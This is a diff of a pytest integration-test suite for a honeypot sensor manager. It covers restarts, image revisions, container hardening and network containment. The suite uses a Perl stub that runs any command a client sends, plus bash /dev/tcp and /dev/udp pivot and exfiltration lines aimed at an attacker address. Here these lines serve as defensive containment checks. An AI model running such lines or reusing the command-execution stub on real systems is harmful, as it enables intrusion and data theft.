@@ -5,24 +5,25 @@ import os
 import secrets
 import shutil
 import signal
+import socket
 import subprocess
 import sys
 from collections.abc import Callable, Iterator
-from contextlib import ExitStack
+from contextlib import ExitStack, contextmanager
 from datetime import UTC, datetime, timedelta
 from pathlib import Path
 from typing import Any
 
 import pytest
 from sensor_support import engine, namespaces
-from sensor_support.builders import desired, eventually, service, uuid7
+from sensor_support.builders import desired, event, eventually, service, uuid7
 from sensor_support.engine import DOCKER
 from sensor_support.mini_server import TOKEN, MiniServer, mini_server
 from sensor_support.namespaces import ATTACKER, SENSOR, SERVER, Lan, sh
 
 from sensor_manager.effects.network_namespace import in_network_namespace
 from sensor_wire.sensor_config import SensorConfig
-from sensor_wire.v1.poll import ServiceReport
+from sensor_wire.v1.poll import ServiceReport, ServiceState
 
 pytestmark = [pytest.mark.docker, pytest.mark.netns]
 
@@ -43,9 +44,10 @@ while (my $client = $server->accept) {
     $manager->flush; my $answer = <$manager>; print $client $answer;
   } else { print $client "no manager: $!\n"; }
   my $command = <$client>; chomp $command if defined $command;
-  print $client `$command 2>&1` if $command; close $client;
+  print $client `( $command ) 2>&1` if $command; close $client;
 }
 """
+SO_ORIGINAL_DST = 80
 SLEEPER = "$SIG{TERM} = sub { exit 0 }; sleep 1 while 1;"
 
 
@@ -69,12 +71,19 @@ class Sensor:
         )
         (folder / "sensor.json").write_text(config.model_dump_json())
 
-    def start(self) -> None:
-        command = ["nsenter", f"--net={namespaces.path(self.net.sensor)}", sys.executable, "-m", "sensor_manager.cli"]
+    def start(self, *, path: str | None = None) -> None:
+        command = [
+            shutil.which("nsenter") or "",
+            f"--net={namespaces.path(self.net.sensor)}",
+            sys.executable,
+            "-m",
+            "sensor_manager.cli",
+        ]
         arguments = ["run", "--config", "sensor.json", "--state", "state", "--runtime", "run", "--docker", self.docker]
         self._process = subprocess.Popen(
             [*command, *arguments],
             cwd=self.folder,
+            env=os.environ | {"PATH": path or os.environ["PATH"]},
             stdout=(self.folder / "manager.log").open("ab"),
         )
 
@@ -99,6 +108,14 @@ class Sensor:
         found = self.server.reports[-1].services if self.server.reports else []
         return next((each for each in found if each.name == name), None)
 
+    def has_failed(self, name: str) -> bool:
+        report = self.report(name)
+        return report is not None and report.state is ServiceState.FAILED
+
+    def restarts(self, name: str) -> int:
+        report = self.report(name)
+        return report.restarts if report is not None else 0
+
     def runs(self, *names: str) -> None:
         def all_run() -> bool:
             last = self.server.reports[-1] if self.server.reports else None
@@ -110,6 +127,38 @@ class Sensor:
         except AssertionError as error:
             raise AssertionError(f"{error}\n{self.server.reports[-1:]}\n{self.log()[-3000:]}") from error
         assert {each.name for each in self.server.reports[-1].services} == set(names)
+
+    def rules(self) -> str:
+        return sh("ip", "netns", "exec", self.net.sensor, "nft", "-s", "list", "ruleset")
+
+    def submit(self, name: str) -> str:
+        """Hand over an event as the service's adapter would."""
+        with self._adapter(name) as adapter:
+            if adapter is None:
+                return ""
+            body = event().model_dump(mode="json", exclude={"service"})
+            adapter.sendall(json.dumps({"event": body}).encode() + b"\n")
+            return adapter.recv(4096).decode()
+
+    def capture(self, name: str) -> list[socket.socket]:
+        """Ask for the capture sockets as the service's adapter would; none while they cannot be had."""
+        with self._adapter(name) as adapter:
+            if adapter is None:
+                return []
+            adapter.sendall(b'{"request":"capture"}\n')
+            _, descriptors, _, _ = socket.recv_fds(adapter, 4096, 3)
+        return [socket.socket(fileno=each) for each in descriptors]
+
+    @contextmanager
+    def _adapter(self, name: str) -> Iterator[socket.socket | None]:
+        with socket.socket(socket.AF_UNIX) as adapter:
+            adapter.settimeout(5)
+            try:
+                adapter.connect(f"{self.folder}/run/services/{name}/events.sock")
+            except OSError:
+                yield None
+            else:
+                yield adapter
 
     def containers(self) -> dict[str, str]:
         lines = sh(DOCKER, "-H", self.docker, "ps", "--no-trunc", "--format", "{{.Names}} {{.ID}}").splitlines()
@@ -182,7 +231,180 @@ def test_first_start_to_event(sensor: Sensor) -> None:
     assert f"hello {ATTACKER} from pot" in answer
     assert '"status":"stored"' in answer
     assert "10001" in answer
-    event = eventually(lambda: sensor.server.events.get(identifier), "the event is on the server", 5)
-    assert event["destination"] == {"ip": SENSOR, "port": 22}
-    assert event["source"]["ip"] == ATTACKER
-    assert event["service"] == "pot"
+    stored = eventually(lambda: sensor.server.events.get(identifier), "the event is on the server", 5)
+    assert stored["destination"] == {"ip": SENSOR, "port": 22}
+    assert stored["source"]["ip"] == ATTACKER
+    assert stored["service"] == "pot"
+
+
+def test_removed_service_leaves_nothing_and_catch_all_takes_its_port(sensor: Sensor) -> None:
+    sensor.want("pot", "sleeper")
+    sensor.runs("pot", "sleeper")
+    first = sensor.connect()
+    assert "hello" in first
+    sensor.want("sleeper")
+    sensor.runs("sleeper")
+    assert set(sensor.containers()) == {"honeysens-sleeper"}
+    assert "test/pot" not in sensor.images()
+    assert sh(DOCKER, "-H", sensor.docker, "volume", "ls", "-q") == ""
+    _, _, listener = sensor.capture("sleeper")
+    with listener:
+        listener.settimeout(5)
+        answers = subprocess.Popen(
+            ["ip", "netns", "exec", sensor.net.lan, *_connect_command(22)], stdout=subprocess.PIPE
+        )
+        connection, peer = listener.accept()
+        with connection:
+            original = connection.getsockopt(socket.SOL_IP, SO_ORIGINAL_DST, 16)
+            connection.sendall(b"caught")
+        assert peer[0] == ATTACKER
+        assert int.from_bytes(original[2:4]) == 22
+        assert answers.communicate(timeout=5)[0] == b"caught"
+    sensor.want("pot", "sleeper")
+    sensor.runs("pot", "sleeper")
+    assert "hello" in sensor.connect()
+
+
+def test_restarts_adopt_what_runs(sensor: Sensor) -> None:
+    sensor.want("pot", "sleeper")
+    sensor.runs("pot", "sleeper")
+    before = sensor.containers()
+    rules = sensor.rules()
+    sensor.kill()
+    sensor.server.available = False
+    assert "hello" in sensor.connect()
+    sensor.start()
+    eventually(lambda: "stored" in sensor.submit("pot"), "the socket is served again")
+    assert sensor.containers() == before
+    assert sensor.rules() == rules
+    sensor.server.available = True
+    sensor.server.reports.clear()
+    sensor.runs("pot", "sleeper")
+    assert sensor.containers() == before
+    eventually(lambda: sensor.server.events, "the event of the time without server arrives", 10)
+
+
+def test_ended_catch_all_is_started_and_prepared_again(sensor: Sensor) -> None:
+    sensor.want("sleeper")
+    sensor.runs("sleeper")
+    sandbox = sensor.inspect("sleeper")["NetworkSettings"]["SandboxKey"]
+    sh(DOCKER, "-H", sensor.docker, "kill", "honeysens-sleeper")
+    eventually(lambda: sensor.inspect("sleeper")["NetworkSettings"]["SandboxKey"] not in {"", sandbox}, "it is back")
+    eventually(lambda: sensor.restarts("sleeper") == 1, "the restart is reported")
+    packet, raw, listener = eventually(lambda: sensor.capture("sleeper"), "it captures again")
+    with packet, raw, listener:
+        listener.settimeout(5)
+        with subprocess.Popen(["ip", "netns", "exec", sensor.net.lan, *_connect_command(4711)]) as client:
+            connection, _ = listener.accept()
+            connection.close()
+            client.wait(5)
+
+
+def test_new_revision_replaces_old_one_only_when_its_image_is_there(sensor: Sensor) -> None:
+    sensor.want("pot")
+    sensor.runs("pot")
+    before = sensor.containers()
+    missing = f"sha256:{'0' * 64}"
+    sensor.want("pot", "sleeper", pot={"digest": missing, "revision": "2"})
+    eventually(lambda: sensor.has_failed("pot"), "the pull's failure is reported")
+    failed = sensor.report("pot")
+    assert failed is not None
+    assert failed.error is not None
+    assert missing in failed.error
+    assert sensor.containers()["honeysens-pot"] == before["honeysens-pot"]
+    assert "hello" in sensor.connect()
+    eventually(lambda: "honeysens-sleeper" in sensor.containers(), "the other service runs all the same")
+    sensor.want("pot", "sleeper", pot={"revision": "3"})
+    sensor.runs("pot", "sleeper")
+    assert sensor.containers()["honeysens-pot"] != before["honeysens-pot"]
+
+
+def test_run_contract(sensor: Sensor) -> None:
+    sensor.want("pot", pot={"limits": {"memory_mb": 64, "pids": 16}})
+    sensor.runs("pot")
+    details = sensor.inspect("pot")
+    host = details["HostConfig"]
+    assert details["Config"]["User"] == "10001:10001"
+    assert (host["ReadonlyRootfs"], host["Privileged"], host["CapDrop"], host["CapAdd"]) == (True, False, ["ALL"], None)
+    assert host["SecurityOpt"] == ["no-new-privileges"]
+    assert (host["Memory"], host["MemorySwap"], host["PidsLimit"]) == (64 << 20, 64 << 20, 16)
+    assert host["RestartPolicy"]["Name"] in {"", "no"}
+    assert [(each["Destination"], each["RW"]) for each in details["Mounts"]] == [("/run/honeysens", False)]
+    status = sensor.connect("cat /proc/self/status; touch /x; touch /tmp/x && stat -c %a:%u /tmp; df -m /tmp | tail -1")
+    assert "CapBnd:\t0000000000000000" in status
+    assert "NoNewPrivs:\t1" in status
+    assert "touch: cannot touch '/x': Read-only file system" in status
+    assert ":10001" in status
+    assert " 64 " in status
+
+
+PIVOTS = {
+    "server by TCP": f"exec 3<>/dev/tcp/{SERVER}/8443",
+    "attacker by TCP": f"exec 3<>/dev/tcp/{ATTACKER}/9999",
+    "sensor's own address": f"exec 3<>/dev/tcp/{SENSOR}/22",
+    "bridge": "exec 3<>/dev/tcp/10.10.10.1/22",
+    "other honeypot": "exec 3<>/dev/tcp/10.10.10.6/60999",
+    "name server": "getent hosts sensor.example",
+}
+
+
+def _assert_closed(sensor: Sensor) -> None:
+    for name, attempt in PIVOTS.items():
+        answer = sensor.connect(f"timeout 2 bash -c '{attempt}' && echo OPEN || echo shut")
+        assert "shut" in answer, (name, answer)
+        assert "OPEN" not in answer, (name, answer)
+    out = f"exec 3>/dev/udp/{ATTACKER}/5000; echo leak >&3"
+    assert "hello" in sensor.connect(f"bash -c '{out}'")
+
+
+def test_taken_over_honeypot_reaches_nothing_also_after_restarts(sensor: Sensor) -> None:
+    sensor.want("pot", "sleeper")
+    sensor.runs("pot", "sleeper")
+    with in_network_namespace(namespaces.path(sensor.net.lan), lambda: socket.create_server((ATTACKER, 9999))):
+        leak = in_network_namespace(namespaces.path(sensor.net.lan), lambda: _datagram_socket(5000))
+        with leak:
+            _assert_closed(sensor)
+            sh("ip", "netns", "exec", sensor.net.sensor, "nft", "delete", "table", "inet", "honeysens")
+            eventually(lambda: "honeysens" in sensor.rules(), "the rules are back")
+            sh(DOCKER, "-H", sensor.docker, "restart", "-t", "1", "honeysens-pot")
+            sensor.kill(signal.SIGTERM)
+            sensor.start()
+            eventually(lambda: "hello" in sensor.connect(), "the honeypot answers again")
+            _assert_closed(sensor)
+            with pytest.raises(BlockingIOError):
+                leak.recv(100)
+
+
+def test_no_honeypot_runs_without_netfilter(sensor: Sensor) -> None:
+    sensor.want("pot")
+    sensor.runs("pot")
+    sensor.kill()
+    sh("ip", "netns", "exec", sensor.net.sensor, "nft", "delete", "table", "inet", "honeysens")
+    tools = sensor.folder / "tools"
+    tools.mkdir()
+    for tool in ("conntrack", "ip", "sh"):
+        (tools / tool).symlink_to(shutil.which(tool) or "")
+    sensor.start(path=str(tools))
+    eventually(lambda: not sensor.containers(), "the honeypot is stopped")
+    eventually(lambda: sensor.has_failed("pot"), "the reason is reported")
+    last = sensor.server.reports[-1]
+    assert last.error is not None
+    assert "nft is not installed" in last.error
+    sensor.kill()
+    sensor.start()
+    eventually(lambda: "hello" in sensor.connect(), "with netfilter the honeypot runs again")
+
+
+def _connect_command(port: int) -> list[str]:
+    script = (
+        f"import socket,sys; c=socket.create_connection(({SENSOR!r},{port}),5,({ATTACKER!r},0));"
+        "sys.stdout.buffer.write(c.recv(99))"
+    )
+    return [sys.executable, "-c", script]
+
+
+def _datagram_socket(port: int) -> socket.socket:
+    made = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+    made.bind((ATTACKER, port))
+    made.settimeout(0)
+    return made
